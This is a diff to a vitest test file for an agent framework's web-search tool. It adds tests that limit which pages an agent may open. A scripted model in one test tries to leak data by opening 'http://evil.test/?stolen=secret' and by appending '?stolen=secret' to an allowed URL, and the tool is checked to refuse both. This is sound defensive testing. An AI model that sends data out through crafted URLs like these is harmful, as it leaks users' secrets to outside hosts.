@@ -1,7 +1,7 @@
 import type { InputItem, ToolDefinition } from '@antiphon/client'
 import { agent, type BuiltInTool, memoryRuns, WireRefusal } from 'antiphon'
 import { scripted } from 'antiphon/testing'
-import { afterEach, describe, expect, it } from 'vitest'
+import { afterEach, describe, expect, it, vi } from 'vitest'
 import type { SearchProvider } from '../src/search-provider.ts'
 import { type WebSearchOptions, webSearch } from '../src/web-search.ts'
 import { WebSearchError } from '../src/web-search-error.ts'
@@ -9,6 +9,7 @@ import { local, web } from './loopback.ts'
 
 const open: BuiltInTool[] = []
 afterEach(async () => {
+  vi.unstubAllEnvs()
   for (const tool of open.splice(0)) await tool.close?.()
 })
 
@@ -239,6 +240,54 @@ describe('web search of an agent', () => {
       .result()
     expect(queries).toHaveLength(1)
     expect(result.annotations).toMatchObject([{ url: a, title: 'Chant' }])
+  })
+})
+
+describe('the pages that may be opened', () => {
+  const secret = 'http://evil.test/?stolen=secret'
+
+  it('are only those that somebody has named, where that is asked for', async () => {
+    const { url, asked } = await web({
+      'a.test/start': '<p>See <a href="/linked">the next page</a>.',
+      'a.test/linked': '<p>linked',
+      'c.test/asked': '<p>asked',
+    })
+    const provider: SearchProvider = async () => [{ url: url('a.test/start'), title: 'A', snippet: 'a' }]
+    const { tool } = await scene({ provider, openPages: 'known' })
+    const model = scripted([
+      { calls: [openPage(url('a.test/start'))] },
+      { calls: [search('a')] },
+      { calls: [openPage(url('a.test/start'))] },
+      { calls: [openPage(url('a.test/linked')), { ...find(secret, 'x'), callId: 'call_g' }] },
+      { calls: [openPage(url('c.test/asked'))] },
+      { calls: [openPage(`${url('c.test/asked')}?stolen=secret`)] },
+      'Done.',
+    ])
+    const { items } = await agent({ model, tools: [tool] })
+      .run(`Read ${url('c.test/asked')}, please.`)
+      .result()
+    const isRefused = outputsOf(items).map((output) => output.includes('has named this address'))
+    expect(isRefused).toEqual([true, false, false, false, true, false, true])
+    expect(asked).toEqual(['a.test/start', 'a.test/linked', 'c.test/asked'])
+  })
+
+  it('are none, where that is said', async () => {
+    const { tool } = await scene({ openPages: 'none' })
+    expect((await opened(tool, { type: 'web_search' })).tools.map(({ name }) => name)).toEqual(['web_search'])
+  })
+})
+
+describe('where it runs', () => {
+  it('may be with the provider of the model, and needs no engine then', async () => {
+    for (const name of ['SEARXNG_URL', 'BRAVE_API_KEY', 'TAVILY_API_KEY']) vi.stubEnv(name, '')
+    const model = Object.assign(scripted(['Done.']), { capabilities: { hostedTools: ['web_search'] } })
+    await agent({ model, tools: [webSearch({ searchContextSize: 'low' })] })
+      .run('?')
+      .result()
+    expect(model.requests[0]?.tools).toEqual([{ type: 'web_search', search_context_size: 'low' }])
+    expect(() => webSearch({ runs: 'local' })).toThrow(expect.objectContaining({ code: 'invalid_config' }))
+    const here = agent({ model: scripted(['never']), tools: [webSearch()] })
+    await expect(here.run('?').result()).rejects.toThrow('SEARXNG_URL')
   })
 })
 
